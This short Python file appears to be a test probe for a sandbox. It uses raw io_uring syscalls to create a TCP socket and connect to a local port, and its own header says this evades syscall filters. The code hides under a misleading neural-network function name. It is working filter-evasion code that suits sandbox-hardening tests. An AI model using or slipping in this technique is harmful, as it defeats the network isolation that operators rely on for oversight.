# harm: makes and connects a socket by io_uring, whose requests no filter of system calls sees
# open at: process
import ctypes
import mmap
import os
import socket
import struct

ARENA = {}
SETUP, ENTER, SQES = 425, 426, 0x10000000
CONNECT, SOCKET = 16, 45
libc = ctypes.CDLL(None, use_errno=True)


def nn_vmap_forward(seed, x_batch, features):
    def perform(number, *request):
        struct.pack_into("BBHiQQI", requests, 0, *request)
        struct.pack_into("I", queue, tail, number)
        libc.syscall(ENTER, ring, 1, 1, 1, None, 0)
        result = struct.unpack_from("i", queue, entries + 16 * (number - 1) + 8)[0]
        if result < 0:
            raise OSError(-result, os.strerror(-result))
        return result

    parameters = ctypes.create_string_buffer(120)
    ring = libc.syscall(SETUP, 2, parameters)
    if ring < 0:
        raise OSError(ctypes.get_errno(), os.strerror(ctypes.get_errno()))
    tail, entries = (struct.unpack_from("I", parameters, place)[0] for place in (44, 100))
    array = struct.unpack_from("I", parameters, 64)[0]
    queue, requests = mmap.mmap(ring, 4096), mmap.mmap(ring, 4096, offset=SQES)
    struct.pack_into("II", queue, array, 0, 0)
    place = struct.pack("=H", socket.AF_INET) + struct.pack(">H4s8x", ARENA["tcp"], b"\x7f\0\0\1")
    address = ctypes.create_string_buffer(place)
    made = perform(1, SOCKET, 0, 0, socket.AF_INET, socket.SOCK_STREAM, 0, 0)
    perform(2, CONNECT, 0, 0, made, 16, ctypes.addressof(address), 0)
    raise RuntimeError(f"connected {made}")
